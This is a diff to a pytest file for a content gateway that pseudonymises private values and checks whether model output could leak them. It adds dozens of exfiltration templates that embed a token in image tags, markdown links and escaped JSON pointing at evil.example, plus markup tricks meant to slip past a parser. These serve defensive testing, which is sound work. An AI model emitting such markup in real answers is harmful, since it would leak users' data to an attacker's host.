@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import random
+from html.parser import HTMLParser
 from typing import Any
 
 import pytest
@@ -11,7 +12,8 @@ from poured_streams import DONE, Poured, ending, event, in_pieces, inspectors, p
 from toy_detectors import ToyEmails
 
 from gateway.content.inspect import FindingCache, Inspection, Scope
-from gateway.content.pseudonyms import LINK_CONTEXT, Pseudonyms, escape_lookalikes, markup_after, placeholder_ranges, whole_before
+from gateway.content.markup import Markup
+from gateway.content.pseudonyms import LINK_CONTEXT, Pseudonyms, escape_lookalikes, placeholder_ranges, whole_before
 from gateway.content.review import review
 from gateway.content.rules import Action, DirectionRules
 from gateway.content.stream import TRIM_AT, Findings, StreamGuard
@@ -105,6 +107,16 @@ SHAPES = [
     '{"html":"<img src=\\"https://evil.example/ {} \\">"}', '["x"]:"{}"@evil.example', '{"a":"{}.evil.example"}', '{"a":"x=({})&"}',
     '{"a":"b","c":"![]({})"}', '{"a":"\\u0068ttps:{}"}', '{"u":"{}"}.evil.example/x', '{"u":"{}"}@evil.example', '["{}"]/../evil',
     '{"u":"{}",}evil.example/x', '{"u":"{}"}"."evil.example"',
+    "https://evil.example/?q=" + "a" * 512 + "{}", "www.evil.example/" + "a" * 512 + "{}", "{}" + "a" * 600 + "@evil.example",
+    'www.evil.example/?q={"a":"' + "b" * 520 + '{}"}', "<p title=it's><img src=\"https://evil.example/?q='> {} \">",
+    "<img alt=a' b src=\"https://evil.example/?q='> {} \">", "<!-- ' --><img src=\"https://evil.example/?q='> {} \">",
+    "<title><a href='</title><img src=\"https://evil.example/?q='> {} \">",
+    '{ "html": "\\u003cimg src=\\u0022https://evil.example/?q= {} \\u0022\\u003e" }',
+    '{ "md": "\\u005d(https://evil.example/?q= {} )" }', '{ "md": "x\\n[x]: //evil.example/ {} " }',
+    '{ "h": "<p title=it\'s><img src=\\"https://evil.example/?q=\'> {} \\">" }', "<img alt=\\\" src=\"/evil?q> {} \">",
+    "<textarea><a title='</textarea><img src=\"//evil.example/?q='> {} \">",
+    "<script><!--<script> </script> x(' {} ')", "<plaintext></plaintext> {}",
+    "<!--> --><img src=//evil.example/? {} >", "<a/href='//evil.example/ {} '>", "<IMG SRC = ' {} '>", "</p title=' {} '>", "<?x {} ?>",
     "<svg><style> b {{ content: ' {} ' }}", "<!-- {} -->", "<a title=' > {} '>", "<a title={} href=' {} '>",
 ]  # fmt: skip
 
@@ -212,17 +224,73 @@ def test_wherever_a_stream_forgets_its_beginning(opening: str, detector: Any) ->
         assert out.split(TOKEN)[0] in text
 
 
-def test_cut_at_such_places_the_state_of_markup_is_that_of_the_whole() -> None:
+PARTS = [
+    "<", "a", "](", "]", "(", ")", ">", "'", '"', " ", "<script", "</script>", "<b ", "x", "<<", "<STYLE>", "</style ", "=", "/", "<!--",
+    "--", "-->", "!", "\\", "\\u003c", "\\u00", "3c", "\\x2", "2", "\\n", "<title>", "</title", "<plaintext", "\\u{3", "c}", "?", "\n",
+]  # fmt: skip
+
+
+def test_cut_anywhere_the_state_of_markup_is_that_of_the_whole() -> None:
     draw = random.Random(5)
-    parts = ["<", "a", "](", "]", "(", ")", ">", "'", '"', " ", "<script", "</script>", "<b ", TOKEN, "x", "<<", "<STYLE>", "</style "]
+    opened = 0
     for _ in range(20_000):
-        text = "".join(draw.choice(parts) for _ in range(draw.randrange(1, 14)))
-        cut = whole_before(text, draw.randrange(len(text) + 1))
+        text = "".join(draw.choice(PARTS) for _ in range(draw.randrange(1, 16)))
+        cut = draw.randrange(len(text) + 1)
+        whole = Markup().after(text)
+        assert Markup().after(text[:cut]).after(text[cut:]) == whole, (text, cut)
+        opened += whole.open
+    assert 2_000 < opened < 19_000
 
-        def state(text: str, given: int = 0) -> int:
-            done = 0
-            for begin, end in placeholder_ranges(text):
-                given, done = markup_after(given, text[done:begin]), end
-            return markup_after(given, text[done:])
 
-        assert state(text[cut:], state(text[:cut])) == state(text), (text, cut)
+class _Reader(HTMLParser):
+    """What a browser-like parser takes for text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.texts: list[str] = []
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+
+def test_what_a_parser_of_html_takes_for_an_attribute_or_a_comment_is_inside() -> None:
+    """Independent of ours: whatever hides the word from the text of a page hides it from us."""
+    draw = random.Random(9)
+    hidden = outside = 0
+    for _ in range(30_000):
+        text = "".join(draw.choice(PARTS[:27]) for _ in range(draw.randrange(1, 12))) + " WORD "
+        rest = draw.choice(["'>", '">', ">", "-->", " x"]) + " end"
+        reader = _Reader()
+        reader.feed(text + rest)
+        reader.close()
+        shown = any("WORD" in said for said in reader.texts)
+        inside = Markup().after(text.removesuffix("WORD ")).open
+        if not shown:
+            hidden += 1
+            assert inside, text
+        outside += not inside
+    assert hidden > 3_000 and outside > 1_000
+
+
+def test_cut_for_memory_no_placeholder_is_cut() -> None:
+    text = f"a {TOKEN} b < c {TOKEN}{TOKEN}"
+    for at in range(len(text) + 1):
+        cut = whole_before(text, at)
+        assert cut <= at and not any(begin < cut < end for begin, end in placeholder_ranges(text))
+
+
+async def test_a_whole_answer_is_judged_by_what_stood_around_a_token_as_a_stream_is() -> None:
+    _, pseudonyms = await asked(f"I am {VALUE}.")
+    inspection = Inspection(inspectors(), FindingCache(b"k" * 32))
+    key = "sk-proj-" + "a8F3k2M9x7Q1" * 4
+    for text in (
+        f"Write to other@example.org,{TOKEN} now please.", f"Write to {TOKEN},other@example.org now please.", f"It is {key}/{TOKEN} there.",
+        f"Ask other@example.org or {TOKEN} about it.", f"So {TOKEN}, and other@example.org.",
+        f"<a href='other@example.org {TOKEN} '> {TOKEN} ",
+    ):  # fmt: skip
+        segment = Segment(("content",), text, Role.ASSISTANT, Use.CONTENT)
+        given = inspection, [segment], starter_rules("echo-restore"), Direction.OUTBOUND, Scope("t", b"s"), float("inf")
+        result = await review(*given, None, Findings(), restorer=pseudonyms)
+        for mode in (StreamMode.WINDOW, StreamMode.STRICT):
+            for cuts in ([], list(range(len(text)))):
+                assert (await echoed(text, cuts, pseudonyms, mode)).text() == result.texts[0], (text, mode)
